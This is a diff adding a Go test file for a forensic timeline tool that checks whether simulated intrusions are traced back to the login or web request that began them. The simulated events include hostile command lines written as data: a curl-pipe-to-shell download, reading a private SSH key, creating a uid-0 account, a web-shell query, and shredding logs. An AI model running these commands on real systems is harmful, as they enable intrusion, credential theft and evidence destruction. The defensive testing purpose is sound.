@@ -1,0 +1,219 @@
+package rootcause_test
+
+import (
+	"testing"
+	"time"
+
+	"github.com/exhibit-dfir/exhibit/timeline"
+)
+
+const outside = "203.0.113.7"
+
+func TestWebShellThenCronThenMinerLeadsToTheUpload(t *testing.T) {
+	s := tell(t, "shop1")
+	s.boot()
+	web := s.daemon("/usr/sbin/apache2", "apache2.service")
+	s.after(time.Hour).noise(10)
+	s.request(outside, "POST", "http://shop/upload.php")
+	s.write(web, "file-created", "/var/www/html/img/x.php").User = "www-data"
+	s.after(20 * time.Second).noise(1)
+	s.request("10.0.0.91", "GET", "http://shop/index.html")
+	s.request(outside, "GET", "http://shop/img/x.php?c=id")
+	web.UID = 33
+	s.exec(web, "/usr/bin/dash", "sh -c id")
+	s.after(10 * time.Second)
+	s.request(outside, "GET", "http://shop/img/x.php?c=crontab+%2Ftmp%2Fc")
+	sh := s.exec(web, "/usr/bin/dash", "sh -c crontab /tmp/c")
+	ct := s.exec(sh, "/usr/bin/crontab", "crontab /tmp/c")
+	s.write(ct, "file-created", "/var/spool/cron/crontabs/www-data")
+	s.after(time.Minute)
+	run := s.cron("www-data", "/tmp/.x/kswap -o pool:3333")
+	miner := s.exec(run, "/tmp/.x/kswap", "/tmp/.x/kswap -o pool:3333")
+	pool := s.connect(miner, "198.51.100.40", 3333)
+	s.noise(3)
+	why := ask(t, s)
+	for _, alert := range []*timeline.Event{miner, pool, sh, ct} {
+		firstEntry(t, why(alert), "web request", "", outside)
+	}
+}
+
+func TestMaliciousPackageIsNamedBeforeTheAdministratorWhoInstalledIt(t *testing.T) {
+	s := tell(t, "build1")
+	s.boot()
+	s.after(time.Hour).noise(5)
+	_, sh := s.login("dave", "10.0.0.20", "publickey", "SHA256:dave", 31)
+	pip := s.exec(sh, "/usr/bin/python3.11", "/usr/bin/python3 /usr/bin/pip install colourful-logs")
+	setup := s.exec(pip, "/usr/bin/python3.11", "/usr/bin/python3 setup.py install")
+	drop := s.exec(setup, "/usr/bin/dash", "sh -c curl -s http://198.51.100.8/a | sh")
+	s.write(drop, "file-created", "/home/dave/.config/systemd/user/log.service")
+	out := s.connect(s.exec(drop, "/usr/bin/curl", "curl -s http://198.51.100.8/a"), "198.51.100.8", 80)
+	s.noise(5)
+	firstEntry(t, ask(t, s)(out), "package installation", "dave", "")
+}
+
+func TestPackageInstalledByAnIntruderLeadsToTheIntruder(t *testing.T) {
+	s := tell(t, "web2")
+	s.boot()
+	s.after(time.Hour).noise(3)
+	for range 12 {
+		s.fail("dave", outside)
+	}
+	_, sh := s.login("dave", outside, "password", "", 31)
+	apt := s.exec(sh, "/usr/bin/apt-get", "apt-get install -y nmap")
+	post := s.exec(s.exec(apt, "/usr/bin/dpkg", "dpkg --configure nmap"), "/usr/bin/dash", "/bin/sh /var/lib/dpkg/info/nmap.postinst configure")
+	scan := s.exec(sh, "/usr/bin/nmap", "nmap 10.0.0.0/24")
+	why := ask(t, s)
+	firstEntry(t, why(scan), "password guessing", "dave", outside)
+	firstEntry(t, why(post), "password guessing", "dave", outside)
+}
+
+func TestStolenKeyIsFollowedToTheHostItWasUsedFrom(t *testing.T) {
+	a := tell(t, "bastion1")
+	a.boot()
+	a.after(time.Hour).noise(2)
+	for range 9 {
+		a.fail("erin", outside)
+	}
+	_, sh := a.login("erin", outside, "password", "", 21)
+	a.exec(sh, "/usr/bin/cat", "cat /home/erin/.ssh/id_ed25519")
+	client := a.exec(sh, "/usr/bin/ssh", "ssh erin@files2")
+	b := tell(t, "files2")
+	b.at("2026-03-02 07:00:00").boot()
+	b.after(30 * time.Minute).noise(4)
+	b.now = a.now.Add(time.Second)
+	_, in := b.login("erin", "10.0.0.9", "publickey", "SHA256:erin", 77)
+	tar := b.exec(in, "/usr/bin/tar", "tar czf /tmp/all.tgz /srv")
+	_ = client
+	g := ask(t, a, b)(tar)
+	firstEntry(t, g, "password guessing", "erin", outside)
+	if only := ask(t, b)(tar); len(only.Entries) == 0 || only.Entries[0].Kind != "remote login" || only.Entries[0].Address != "10.0.0.9" {
+		t.Errorf("with one host only, the internal login must be named: %s", describe(only))
+	}
+}
+
+func TestSudoAbuseLeadsToTheLoginOfTheAbuser(t *testing.T) {
+	s := tell(t, "db1")
+	s.boot()
+	s.after(time.Hour).noise(4)
+	_, sh := s.login("frank", "10.0.0.33", "password", "", 9)
+	su := s.exec(sh, "/usr/bin/sudo", "sudo vi /etc/motd")
+	line := s.event("syslog:sudo", "privilege-used")
+	line.User, line.Cmdline = "frank", "/usr/bin/vi /etc/motd"
+	su.UID = 0
+	vi := s.exec(su, "/usr/bin/vi", "vi /etc/motd")
+	root := s.exec(vi, "/usr/bin/bash", "/bin/bash")
+	dump := s.exec(root, "/usr/bin/mysqldump", "mysqldump --all-databases")
+	pw := s.write(root, "file-opened-for-write", "/etc/passwd")
+	s.noise(3)
+	why := ask(t, s)
+	for _, alert := range []*timeline.Event{dump, pw, line, root} {
+		firstEntry(t, why(alert), "remote login", "frank", "10.0.0.33")
+	}
+}
+
+func TestPersistenceAcrossABootLeadsToTheSessionBeforeIt(t *testing.T) {
+	s := tell(t, "app1")
+	s.boot()
+	s.after(time.Hour).noise(3)
+	for _, u := range []string{"root", "admin", "git", "oracle", "grace", "grace"} {
+		s.fail(u, outside)
+	}
+	_, sh := s.login("grace", outside, "password", "", 12)
+	sudo := s.exec(sh, "/usr/bin/sudo", "sudo -i")
+	sudo.UID = 0
+	root := s.exec(sudo, "/usr/bin/bash", "-bash")
+	s.exec(root, "/usr/bin/cp", "cp /tmp/netd /usr/local/sbin/netd")
+	unit := s.write(root, "file-created", "/etc/systemd/system/netd.service")
+	s.exec(root, "/usr/bin/systemctl", "systemctl enable netd.service")
+	s.write(root, "file-created", "/etc/cron.d/rotate-local")
+	s.after(30 * time.Hour)
+	s.boot()
+	s.after(20 * time.Second)
+	// Session numbers start again: 12 now belongs to somebody else.
+	s.after(5 * time.Minute)
+	_, other := s.login("carol", "10.0.0.77", "publickey", "SHA256:carol", 12)
+	s.exec(other, "/usr/bin/uptime", "uptime")
+	netd := s.daemon("/usr/local/sbin/netd", "netd.service")
+	beacon := s.connect(netd, "198.51.100.60", 443)
+	run := s.cron("root", "/usr/local/sbin/netd --check # rotate-local")
+	why := ask(t, s)
+	for _, alert := range []*timeline.Event{unit, netd, beacon, run} {
+		firstEntry(t, why(alert), "password guessing", "grace", outside)
+	}
+}
+
+func TestPlantedKeyLeadsToTheSessionThatPlantedIt(t *testing.T) {
+	s := tell(t, "mail1")
+	s.boot()
+	s.after(time.Hour).noise(3)
+	for range 8 {
+		s.fail("heidi", outside)
+	}
+	_, sh := s.login("heidi", outside, "password", "", 14)
+	root := s.exec(s.exec(sh, "/usr/bin/sudo", "sudo -s"), "/usr/bin/bash", "/bin/bash")
+	root.UID = 0
+	s.write(root, "file-opened-for-write", "/root/.ssh/authorized_keys")
+	s.noise(2)
+	s.after(3 * time.Hour)
+	_, back := s.login("root", "198.51.100.77", "publickey", "SHA256:planted", 40)
+	rm := s.exec(back, "/usr/bin/shred", "shred /var/log/mail.log")
+	firstEntry(t, ask(t, s)(rm), "password guessing", "heidi", outside)
+}
+
+func TestNewAccountLeadsToTheSessionThatMadeIt(t *testing.T) {
+	s := tell(t, "vpn1")
+	s.boot()
+	s.after(time.Hour).noise(3)
+	for range 8 {
+		s.fail("ivan", outside)
+	}
+	_, sh := s.login("ivan", outside, "password", "", 14)
+	add := s.exec(sh, "/usr/sbin/useradd", "useradd -o -u 0 support")
+	ev := s.event("linux:audit:event", "account-created")
+	ev.PID, ev.PPID, ev.Session, ev.Exe = add.PID, add.PPID, add.Session, add.Exe
+	attr(ev, "target_user", "support")
+	s.after(time.Hour)
+	_, in := s.login("support", "198.51.100.78", "password", "", 41)
+	copied := s.exec(in, "/usr/bin/scp", "scp x y")
+	firstEntry(t, ask(t, s)(copied), "password guessing", "ivan", outside)
+}
+
+func TestMistypedPasswordIsNotGuessing(t *testing.T) {
+	s := tell(t, "pc1")
+	s.boot()
+	for range 5 {
+		s.fail("judy", "10.0.0.40")
+		s.fail("judy", "10.0.0.40")
+		_, sh := s.login("judy", "10.0.0.40", "password", "", 3+len(s.events))
+		s.exec(sh, "/usr/bin/ls", "ls")
+		s.after(10 * time.Minute)
+	}
+	_, sh := s.login("judy", "10.0.0.40", "password", "", 2)
+	tar := s.exec(sh, "/usr/bin/tar", "tar c /")
+	firstEntry(t, ask(t, s)(tar), "remote login", "judy", "10.0.0.40")
+}
+
+func TestWithoutAuditRecordsSudoLinesAndFileTimesLeadToTheLogin(t *testing.T) {
+	s := tell(t, "old1")
+	s.audit = false
+	s.boot()
+	s.after(time.Hour)
+	for i := range 3 {
+		s.login("carol", "10.0.0.77", "publickey", "SHA256:carol", 500+i)
+		end := s.event("syslog:systemd", "session-closed")
+		end.Session, end.User = "50"+string(rune('0'+i)), "carol"
+		s.after(10 * time.Minute)
+	}
+	for range 15 {
+		s.fail("karl", outside)
+	}
+	s.login("karl", outside, "password", "", 60)
+	sudo := s.event("syslog:sudo", "privilege-used")
+	sudo.User, sudo.Cmdline = "karl", "/usr/bin/cp /tmp/netd /etc/cron.d/netd"
+	file := s.stat("/etc/cron.d/netd", "root")
+	run := s.after(time.Minute).cron("root", "/usr/local/bin/netd -q")
+	why := ask(t, s)
+	for _, alert := range []*timeline.Event{sudo, file, run} {
+		firstEntry(t, why(alert), "password guessing", "karl", outside)
+	}
+}
